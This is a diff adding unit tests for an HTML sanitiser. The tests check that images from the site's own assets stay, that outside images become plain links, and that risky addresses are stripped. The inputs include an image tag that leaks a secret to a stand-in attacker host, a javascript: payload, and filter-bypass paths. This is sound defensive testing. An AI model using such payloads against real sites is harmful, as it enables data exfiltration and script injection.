@@ -1,0 +1,39 @@
+import { describe, expect, it } from 'vitest';
+import { sanitiseHtml } from './sanitise-html.ts';
+
+describe('a picture', () => {
+  it('of our own stays', () => {
+    const own = '<p><img src="/api/services/assets/show?asset_id=7" alt="A boot" width="8" /></p>';
+    expect(sanitiseHtml(own)).toBe(own);
+  });
+  it('from elsewhere becomes a link, which nothing loads', () => {
+    expect(sanitiseHtml('<p>See <img src="https://evil.example/?d=SECRET" alt="A chart" width="1"> here.</p>')).toBe(
+      '<p>See <a href="https://evil.example/?d=SECRET" rel="noopener">A chart</a> here.</p>',
+    );
+    expect(sanitiseHtml('<img src="http://evil.example/a.png">')).toBe(
+      '<a href="http://evil.example/a.png" rel="noopener">http://evil.example/a.png</a>',
+    );
+  });
+  it('from elsewhere in a link becomes its words', () => {
+    expect(sanitiseHtml('<a href="https://x.example/"><img src="https://evil.example/b.png" alt="Logo"> of X</a>')).toBe(
+      '<a href="https://x.example/" rel="noopener">Logo of X</a>',
+    );
+    expect(sanitiseHtml('<a href="https://x.example/">X</a> <img src="https://evil.example/b.png" alt="Logo">')).toContain(
+      '<a href="https://evil.example/b.png"',
+    );
+  });
+  it.each([
+    '//evil.example/a.png',
+    '/\\evil.example/a.png',
+    '/api//evil.example',
+    'data:image/svg+xml,<svg/>',
+    'javascript:alert(1)',
+    '/api/\\evil',
+  ])('at %s goes', (address) => {
+    expect(sanitiseHtml(`<p>a<img src="${address.replaceAll('<', '&lt;')}">b</p>`)).toBe('<p>ab</p>');
+  });
+  it('is the same when it is cleaned twice', () => {
+    const html = sanitiseHtml('<p><img src="https://evil.example/b.png" alt="a &lt;b&gt; &quot;c&quot;"></p>');
+    expect(sanitiseHtml(html)).toBe(html);
+  });
+});
